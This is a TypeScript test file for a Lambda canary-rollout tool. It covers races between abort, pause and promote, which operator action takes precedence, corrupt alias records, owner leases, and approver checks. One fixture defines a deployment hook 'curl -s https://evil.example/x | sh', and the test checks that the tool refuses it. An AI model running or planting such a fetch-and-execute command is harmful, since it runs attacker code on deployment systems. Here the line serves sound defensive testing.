import { expect } from "chai";
import { UsageError } from "../../../automation/errors";
import { operate, type OperatorResult } from "../../../automation/rollout/operator";
import { policyDifferences } from "../../../automation/rollout/policy";
import { promote } from "../../../automation/rollout/promote";
import { ownerMove, type RecordsSeen } from "../../../automation/rollout/requests";
import { decodeState, encodeState, forwardRefusal, readRecordText, type RolloutState } from "../../../domain/state";
import { prune } from "../../../automation/rollout/prune";
import { rollback } from "../../../automation/rollout/rollback";
import { status } from "../../../automation/rollout/status";
import { rolloutSchema } from "../../../config/stackConfig";
import { FakeLambda, FakeMetrics, FakeStack, fakeClock, memoryLog, outputsFor, PROD_POLICY } from "../../helpers/fakes";

const API = "lambda-rollout-prod-api";
const MIN = 60_000;
const ALICE = "arn:aws:sts::123456789012:assumed-role/ReleaseManagers/alice";
const MALLORY = "arn:aws:sts::123456789012:assumed-role/Developers/mallory";

function setup(policy: unknown = PROD_POLICY) {
    const lambda = new FakeLambda();
    lambda.aliases.set(API, { functionVersion: "7", additionalVersionWeights: {} });
    const stack = new FakeStack(lambda, outputsFor(["api"], policy));
    const metrics = new FakeMetrics(lambda, { api: { stable: 0.002, candidate: 0.002 } }, 300);
    const { clock, drive } = fakeClock();
    const log = memoryLog();
    return { lambda, stack, metrics, clock, drive, log, deps: { stack, lambda, metrics, clock, log } };
}

const state = (phase: RolloutState["phase"], extra: Partial<RolloutState> = {}): RolloutState => ({
    phase,
    stable: "7",
    candidate: "8",
    step: 2,
    steps: 3,
    weight: 0.5,
    since: Date.UTC(2026, 0, 5, 9),
    ...extra,
});

describe("who decides, wins: an abort that lands inside a step's up (fakes, a fake clock)", () => {
    it("the up writes 50% and a fresh record over the abort; the abort records itself again, the promote ends aborted on stable, and the abort exits 0 only after that", async () => {
        const t = setup();
        const opLog = memoryLog();
        let abort: Promise<OperatorResult> | undefined;
        let abortEndedAt = 0;
        // Inside step 2's up: the program has read the alias; the operator aborts before the provider writes it.
        t.stack.beforeWrite = async (n) => {
            if (n !== 2) return;
            abort = operate({ ...t.deps, log: opLog }, "prod", { action: "abort", by: "carol", principal: ALICE, reason: "pager" }).then(
                (r) => {
                    abortEndedAt = t.clock.now();
                    return r;
                },
            );
            // The abort's first write lands (traffic on stable, `aborting` recorded) before the provider's.
            for (let i = 0; i < 50 && decodeState(t.lambda.aliases.get(API)?.description)?.phase !== "aborting"; i++)
                await Promise.resolve();
            expect(decodeState(t.lambda.aliases.get(API)!.description)).to.include({ phase: "aborting", by: "carol" });
        };
        const startedAt = t.clock.now();
        const result = await t.drive(promote(t.deps, { stackName: "prod" }));
        const verb = await t.drive(abort!);

        expect(result.report.outcome).to.equal("aborted");
        expect(result.exitCode).to.equal(1);
        expect(t.lambda.aliases.get(API)).to.deep.include({ functionVersion: "7", additionalVersionWeights: {} });
        expect(decodeState(t.lambda.aliases.get(API)!.description)).to.include({ phase: "aborted", stable: "7", candidate: "8" });
        // Step 2's up did write 50% over the abort: the lost update this guards against happened.
        expect(t.stack.ups.map((u) => u.weight)).to.include(0.5);
        expect(opLog.lines.join("\n")).to.contain("the abort was overwritten by an `up` in flight: recorded it again");
        expect(t.stack.ups.some((u) => (u.weight ?? 0) >= 1)).to.equal(false);
        expect(verb).to.deep.include({ exitCode: 0, confirmed: true, landed: true });
        // It said "done" only after the owner had decided the abort and put traffic back, never at its first write.
        expect(abortEndedAt).to.be.at.least(startedAt + result.report.decisionAtMinute! * MIN);
        expect(opLog.lines.at(-1)).to.match(/^all traffic is on stable: api v7 100% \(read after every `up` in flight ended\)$/);
        expect(result.report.operator).to.deep.equal([
            {
                action: "abort",
                by: "carol",
                principal: "123456789012:assumed-role/ReleaseManagers/alice",
                reason: "pager",
                atMinute: result.report.operator![0].atMinute,
            },
        ]);
    });

    it("an abort whose owner stays alive and never confirms exits 3 after its wait, saying where traffic is and the command to finish", async () => {
        const t = setup();
        // A promote elsewhere holds 50%, its lease renewed far ahead, and never acts on the abort.
        t.lambda.aliases.set(API, {
            functionVersion: "7",
            additionalVersionWeights: { "8": 0.5 },
            description: encodeState(state("baking", { owner: "0a1b2c3d", lease: t.clock.now() + 3600_000 })),
        });
        const log = memoryLog();
        const verb = await t.drive(operate({ ...t.deps, log }, "prod", { action: "abort", by: "carol" }, { waitMs: 2 * MIN }));
        expect(verb).to.deep.include({ exitCode: 3, confirmed: false, landed: true });
        const text = log.lines.join("\n");
        expect(text).to.match(/NOT CONFIRMED after 12\d s: api v7 100% \(v8: abort to v7 decided by carol/);
        expect(text).to.contain(
            `to finish: \`lambda-rollout abort -s prod\` again once the update holding the stack has ended, or by hand: aws lambda update-alias --function-name ${API} --name live --function-version 7`,
        );
    });

    it("with no owner alive, the abort finishes itself: traffic on stable, `aborted` recorded, and its own up holds the stack's lock", async () => {
        const t = setup();
        t.lambda.aliases.set(API, {
            functionVersion: "7",
            additionalVersionWeights: { "8": 0.1 },
            description: encodeState(state("baking", { step: 1, weight: 0.1, owner: "0a1b2c3d", lease: t.clock.now() - 1000 })),
        });
        const verb = await t.drive(operate({ ...t.deps, log: memoryLog() }, "prod", { action: "abort", by: "carol" }));
        expect(verb).to.deep.include({ exitCode: 0, confirmed: true });
        expect(decodeState(t.lambda.aliases.get(API)!.description)).to.include({ phase: "aborted" });
        expect(t.stack.ups.map((u) => u.weight)).to.deep.equal([0]);
    });

    it("the program refuses to move a candidate forward over an abort or a rollback, never back to stable", () => {
        const live = (s: RolloutState) => ({ functionVersion: "7", description: encodeState(s) });
        expect(forwardRefusal({ stable: "7", candidate: "8", weight: 0.5 }, live(state("aborting")))).to.match(
            /^refusing to move v8 forward: the live alias records its rollout as aborting/,
        );
        expect(forwardRefusal({ stable: "7", candidate: "8", weight: 0.5 }, live(state("rolled-back")))).to.match(/as rolled-back/);
        expect(forwardRefusal({ stable: "7", candidate: "8", weight: 0 }, live(state("aborting")))).to.equal(undefined);
        expect(forwardRefusal({ stable: "7", candidate: "8", weight: 0.5 }, live(state("baking")))).to.equal(undefined);
        expect(
            forwardRefusal({ stable: "7", candidate: "8", weight: 1 }, { functionVersion: "8", description: "lambda-rollout/1 {" }),
        ).to.match(/cannot be read/);
    });

    it("an up started after the abort landed fails in the program, and the promote reads the abort and stops", async () => {
        const t = setup();
        // The abort is recorded just before step 2's up reads the alias: the owner's pre-up write meets it (compare-and-set).
        const original = t.stack.up.bind(t.stack);
        t.stack.up = async (routing, message, signal) => {
            if (t.stack.ups.length === 1 && routing && Object.values(routing)[0].weight > 0) {
                const s = decodeState(t.lambda.aliases.get(API)!.description)!;
                t.lambda.aliases.set(API, {
                    ...t.lambda.aliases.get(API)!,
                    description: encodeState({ ...s, phase: "aborting", by: "dave" }),
                });
                t.lambda.touched(API);
            }
            return original(routing, message, signal);
        };
        const result = await t.drive(promote(t.deps, { stackName: "prod" }));
        expect(result.report.outcome).to.equal("aborted");
        expect(t.stack.ups.filter((u) => (u.weight ?? 0) > 0).length).to.be.at.most(2);
        expect(t.lambda.aliases.get(API)).to.deep.include({ functionVersion: "7", additionalVersionWeights: {} });
    });
});

describe("who decides, wins: a pause that lands just before a step's up (fakes, a fake clock)", () => {
    it("recorded between the last poll and the owner's pre-up write, it wins that write: the weight holds, no up moves it, and resume goes on; it is never taken for an abort", async () => {
        const t = setup();
        const write = t.lambda.updateAlias.bind(t.lambda);
        let pausedAt: number | undefined;
        let resumed: Promise<OperatorResult> | undefined;
        t.lambda.updateAlias = async (functionName, alias, routing, description, revisionId) => {
            const mine = description === undefined ? undefined : decodeState(description);
            // The owner's pre-up write for step 2 (the record marked `u`, with 10% live): carol's pause lands first.
            if (pausedAt === undefined && !routing && mine?.upInFlight && mine.weight > 0) {
                pausedAt = t.clock.now();
                const live = decodeState(t.lambda.aliases.get(API)!.description)!;
                t.lambda.aliases.set(API, {
                    ...t.lambda.aliases.get(API)!,
                    description: encodeState({ ...live, phase: "paused", by: "carol", since: pausedAt }),
                });
                t.lambda.touched(API);
                resumed = t.clock
                    .sleep(20 * MIN)
                    .then(() => operate({ ...t.deps, log: memoryLog() }, "prod", { action: "resume", by: "carol" }));
            }
            return write(functionName, alias, routing, description, revisionId);
        };
        let upAt50: number | undefined;
        const up = t.stack.up.bind(t.stack);
        t.stack.up = async (routing, message, signal) => {
            if (routing && Object.values(routing)[0].weight === 0.5) upAt50 ??= t.clock.now();
            return up(routing, message, signal);
        };
        const result = await t.drive(promote(t.deps, { stackName: "prod" }));
        expect(pausedAt, "the pause landed before step 2's up").to.be.a("number");
        expect((await resumed!).exitCode).to.equal(0);
        expect(result.report.outcome).to.equal("promoted");
        // No up moved traffic past 10% while paused: step 2's up came only after the resume.
        const upsTo50 = t.stack.ups.filter((u) => u.weight === 0.5);
        expect(upsTo50).to.have.length(1);
        expect(result.report.operator?.map((o) => o.action)).to.include.members(["pause", "resume"]);
        // ... and that one ran after the resume, 20 minutes after the pause, not at the pause.
        expect(upAt50! - pausedAt!).to.be.at.least(20 * MIN);
    });
});

describe("precedence: a failed verdict beats everything, then an abort, then a pause, then approval and --full", () => {
    const seen = (extra: Partial<RecordsSeen> = {}): RecordsSeen => ({ unreadable: [], ...extra });
    const cases: [string, Parameters<typeof ownerMove>[0], RecordsSeen, boolean, string][] = [
        ["failed evidence over --full", "failed", seen({ full: state("baking", { request: "full" }) }), false, "roll-back"],
        ["failed evidence over an abort", "failed", seen({ abort: state("aborting") }), false, "roll-back"],
        [
            "inconclusive past its limit over --full",
            "inconclusive",
            seen({ full: state("baking", { request: "full" }) }),
            false,
            "roll-back",
        ],
        [
            "an abort over a pause and --full",
            "baking",
            seen({ abort: state("aborting"), paused: state("paused"), full: state("baking") }),
            false,
            "abort",
        ],
        [
            "a pause over --full (the bake passed)",
            "passed",
            seen({ paused: state("paused"), full: state("paused", { request: "full" }) }),
            false,
            "hold",
        ],
        ["--full while the evidence has not failed", "baking", seen({ full: state("baking", { request: "full" }) }), false, "skip-bakes"],
        [
            "an approval while waiting for one",
            "passed",
            seen({ approved: state("awaiting-approval", { request: "approve" }) }),
            true,
            "approved",
        ],
        ["waiting, nothing recorded", "passed", seen(), true, "hold"],
        ["the bake passed", "passed", seen(), false, "go-on"],
        ["still baking", "extended", seen(), false, "keep-baking"],
    ];
    for (const [what, verdict, records, waiting, kind] of cases) {
        it(`${what}: ${kind}`, () => {
            expect(ownerMove(verdict, records, { waitingForApproval: waiting }).kind).to.equal(kind);
        });
    }
    it("an approval or --full from someone the reviewed `approvers` do not name is not acted on", () => {
        const approvers = ["arn:aws:iam::123456789012:role/ReleaseManagers"];
        const by = (principal: string) => state("awaiting-approval", { request: "approve", principal });
        expect(
            ownerMove("passed", seen({ approved: by("123456789012:assumed-role/Developers/mallory") }), {
                waitingForApproval: true,
                approvers,
            }).kind,
        ).to.equal("hold");
        expect(
            ownerMove("passed", seen({ approved: by("123456789012:assumed-role/ReleaseManagers/alice") }), {
                waitingForApproval: true,
                approvers,
            }).kind,
        ).to.equal("approved");
    });
});

describe("promote --full while the 50% step fails (fakes)", () => {
    it("rolls back (exit 1) and records the failing step as failed, never passed", async () => {
        const t = setup();
        // The candidate fails 20% of its calls from the 50% step on; at that step's first poll, as the gate reads the failing evidence, an operator asks for --full.
        let asked = false;
        let pollsAt50 = 0;
        t.metrics.errorRates.api = { stable: 0.002, candidate: 0.002 };
        const original = t.metrics.evidence.bind(t.metrics);
        t.metrics.evidence = async (requests, from, to) => {
            const at50 = t.lambda.aliases.get(API)!.additionalVersionWeights?.["8"] === 0.5;
            if (at50) t.metrics.errorRates.api = { stable: 0.002, candidate: 0.2 };
            if (at50 && ++pollsAt50 === 1 && !asked) {
                asked = true;
                const s = decodeState(t.lambda.aliases.get(API)!.description)!;
                t.lambda.aliases.set(API, {
                    ...t.lambda.aliases.get(API)!,
                    description: encodeState({ ...s, request: "full", by: "erin", reason: "hotfix" }),
                });
                t.lambda.touched(API);
            }
            return original(requests, from, to);
        };
        const result = await t.drive(promote(t.deps, { stackName: "prod" }));
        expect(asked, "the --full request was recorded during the failing step").to.equal(true);
        expect(result.report.outcome).to.equal("rolled-back");
        expect(result.exitCode).to.equal(1);
        const last = result.report.steps.at(-1)!;
        expect(last).to.include({ weight: 0.5, verdict: "failed" });
        expect(result.report.steps.some((s) => s.cause === "operator")).to.equal(false);
        expect(t.stack.ups.some((u) => (u.weight ?? 0) >= 1)).to.equal(false);
        expect(t.lambda.aliases.get(API)).to.deep.include({ functionVersion: "7", additionalVersionWeights: {} });
    });
});

describe("a record that cannot be read is never 'no rollout' (fakes)", () => {
    const CORRUPT = 'lambda-rollout/1 {"p":"baking","s":"7","c":"8","i":3,"n":3,"w":1,"t":17';
    function corrupt() {
        const t = setup();
        // At 100% (primary = candidate) with the record truncated: read naively, a finished promotion.
        t.lambda.aliases.set(API, { functionVersion: "8", additionalVersionWeights: {}, description: CORRUPT });
        t.stack.history_ = [
            {
                startTime: new Date(Date.UTC(2026, 0, 5, 9, 20)),
                message: "lambda-rollout promote: step 3/3 100% (api v7->v8)",
                result: "succeeded",
            },
        ];
        return t;
    }

    it("reads as unreadable, with why, whatever the text", () => {
        expect(readRecordText(CORRUPT)).to.deep.include({ kind: "unreadable", raw: CORRUPT });
        expect(readRecordText("hotfix by bob")).to.deep.include({ kind: "unreadable" });
        expect(readRecordText("Traffic of this function, moved by lambda-rollout")).to.deep.equal({ kind: "none" });
        expect(readRecordText(undefined)).to.deep.equal({ kind: "none" });
        expect(readRecordText('lambda-rollout/1 {"p":"baking"}\u001b[31m')).to.deep.include({ kind: "unreadable" });
        expect((readRecordText("x\u001b[2J\u0007y") as { raw: string }).raw).to.equal("xy");
    });

    it("promote moves nothing and exits 3 with the raw text, the stable the stack's history names and the commands; never 'nothing to do'", async () => {
        const t = corrupt();
        const result = await t.drive(promote(t.deps, { stackName: "prod" }));
        expect(result.exitCode).to.equal(3);
        expect(result.report.outcome).to.equal("failed");
        const text = t.log.lines.join("\n");
        expect(text).not.to.contain("nothing to do");
        expect(text).to.contain(JSON.stringify(CORRUPT));
        expect(text).to.contain("the stack's history names v7 as the stable of the last rollout of v8");
        expect(text).to.contain("lambda-rollout rollback -s prod --to 7");
        expect(result.report.unreadableRecords?.api.raw).to.equal(CORRUPT);
        expect(t.stack.ups).to.deep.equal([]);
        expect(t.lambda.updates).to.deep.equal([]);
    });

    it("rollback without --to moves nothing (exit 3, the way out said); with --to it rolls back to the version asked", async () => {
        const t = corrupt();
        const refused = await t.drive(rollback({ ...t.deps }, { stackName: "prod" }));
        expect(refused.outcome).to.equal("failed");
        expect(refused.unreadableRecords?.api.advice).to.include(
            "to put all its traffic back on the stable version: lambda-rollout rollback -s prod --to 7",
        );
        expect(t.lambda.updates).to.deep.equal([]);
        const done = await t.drive(rollback({ ...t.deps }, { stackName: "prod", to: "7" }));
        expect(done.outcome).to.equal("rolled-back");
        expect(t.lambda.aliases.get(API)).to.deep.include({ functionVersion: "7" });
    });

    it("status says so, with the raw text and the fix, and exits 3 (record-unreadable)", async () => {
        const t = corrupt();
        const s = await t.drive(status(t.deps, "prod"));
        expect(s.functions.api.phase).to.equal("record-unreadable");
        expect(s.functions.api.unreadableRecord?.raw).to.equal(CORRUPT);
    });

    it("prune keeps every version of that function (the record could name any of them) and exits 3", async () => {
        const t = corrupt();
        const versionControl = {
            listVersions: async () => Array.from({ length: 25 }, (_, i) => String(i + 1)),
            listAliases: async () => [{ name: "live", functionVersion: "8", additionalVersionWeights: {}, description: CORRUPT }],
            deleteVersion: async () => {
                throw new Error("must not delete");
            },
        };
        const report = await prune(
            { stack: t.stack, lambda: versionControl, log: t.log },
            { stackName: "prod", retention: { keep: 2, afterPromotion: false } },
        );
        expect(report.exitCode).to.equal(3);
        expect(report.functions.api.toDelete).to.deep.equal([]);
        expect(report.functions.api.unreadableRecord?.raw).to.equal(CORRUPT);
    });
});

describe("the policy comes from reviewed config, never from the stack's outputs alone", () => {
    const reviewed = rolloutSchema.parse(PROD_POLICY);
    const withHook = { ...PROD_POLICY, hooks: { afterStep: [{ command: "curl -s https://evil.example/x | sh" }] } };

    it("names each differing key", () => {
        expect(policyDifferences(reviewed, rolloutSchema.parse(withHook))).to.deep.equal(["hooks.afterStep[0]"]);
        expect(policyDifferences(reviewed, rolloutSchema.parse(PROD_POLICY))).to.deep.equal([]);
    });

    it("a stack whose outputs carry a command hook the local config lacks is refused before any traffic moves, naming the key", async () => {
        const t = setup(withHook);
        let error: Error | undefined;
        try {
            await t.drive(promote(t.deps, { stackName: "prod", policy: reviewed }));
        } catch (err) {
            error = err as Error;
        }
        expect(error).to.be.instanceOf(UsageError);
        expect(error!.message).to.match(
            /^stack prod's outputs carry a rollout policy that differs from the checked-out config at `rollout\.hooks\.afterStep\[0\]`/,
        );
        expect(t.stack.ups).to.deep.equal([]);
        expect(t.lambda.invokes).to.deep.equal([]);
        expect(t.lambda.stateWrites).to.deep.equal([]);
    });
});

describe("who acted is who AWS says: approvers", () => {
    const approvers = ["arn:aws:iam::123456789012:role/ReleaseManagers"];
    function waiting() {
        const t = setup();
        t.lambda.aliases.set(API, {
            functionVersion: "7",
            additionalVersionWeights: { "8": 0.5 },
            description: encodeState(state("awaiting-approval")),
        });
        return t;
    }

    it("approve from a principal the approvers do not name is refused (exit 2) and records nothing", async () => {
        const t = waiting();
        let error: Error | undefined;
        try {
            await t.drive(
                operate({ ...t.deps, log: memoryLog() }, "prod", { action: "approve", by: "mallory", principal: MALLORY }, { approvers }),
            );
        } catch (err) {
            error = err as Error;
        }
        expect(error).to.be.instanceOf(UsageError);
        expect(error!.message).to.contain(`${MALLORY} is not one of the stack's \`rollout.approvers\``);
        expect(t.lambda.stateWrites).to.deep.equal([]);
    });

    it("approve from an approver's session (its role matches) is recorded with the principal beside --by, and confirmed by a read", async () => {
        const t = waiting();
        const r = await t.drive(
            operate({ ...t.deps, log: memoryLog() }, "prod", { action: "approve", by: "alice", principal: ALICE }, { approvers }),
        );
        expect(r).to.deep.include({ exitCode: 0, confirmed: true });
        expect(decodeState(t.lambda.aliases.get(API)!.description)).to.include({
            request: "approve",
            by: "alice",
            principal: "123456789012:assumed-role/ReleaseManagers/alice",
        });
    });

    it("abort and pause need no approver: stopping is anyone's right", async () => {
        const t = waiting();
        const r = await t.drive(
            operate({ ...t.deps, log: memoryLog() }, "prod", { action: "abort", by: "mallory", principal: MALLORY }, { approvers }),
        );
        expect(r.exitCode).to.equal(0);
    });
});

describe("the owner's lease", () => {
    it("a promote run again waits for a dead owner's lease to run out, then takes the rollout over", async () => {
        const t = setup();
        t.lambda.aliases.set(API, {
            functionVersion: "7",
            additionalVersionWeights: { "8": 0.5 },
            description: encodeState(state("baking", { owner: "dead0001", lease: t.clock.now() + 90_000 })),
        });
        const started = t.clock.now();
        const result = await t.drive(promote(t.deps, { stackName: "prod" }));
        expect(result.report.outcome).to.equal("promoted");
        expect(t.log.lines.join("\n")).to.contain("owned by another promote (dead0001), whose lease runs to");
        expect(t.stack.ups[0].message).to.contain("step 3/3");
        expect(decodeState(t.lambda.aliases.get(API)!.description)!.owner).to.not.equal("dead0001");
        expect(t.clock.now() - started).to.be.at.least(90_000);
    });

    it("a promote that finds the owner alive (its lease renewed while it waited) moves nothing and exits 4", async () => {
        const t = setup();
        const record = (lease: number) => encodeState(state("baking", { owner: "a11fe001", lease }));
        t.lambda.aliases.set(API, {
            functionVersion: "7",
            additionalVersionWeights: { "8": 0.5 },
            description: record(t.clock.now() + 60_000),
        });
        const original = t.lambda.getAlias.bind(t.lambda);
        t.lambda.getAlias = async (fn: string) => {
            // The other promote renews its lease each poll.
            const live = t.lambda.aliases.get(fn)!;
            t.lambda.aliases.set(fn, { ...live, description: record(t.clock.now() + 60_000) });
            return original(fn);
        };
        const result = await t.drive(promote(t.deps, { stackName: "prod" }));
        expect(result.exitCode, `${result.report.error}\n${t.log.lines.join("\n")}`).to.equal(4);
        expect(result.report.error).to.match(/^another promote \(a11fe001\) owns the rollout of v8 and is alive/);
        expect(t.stack.ups).to.deep.equal([]);
    });
});
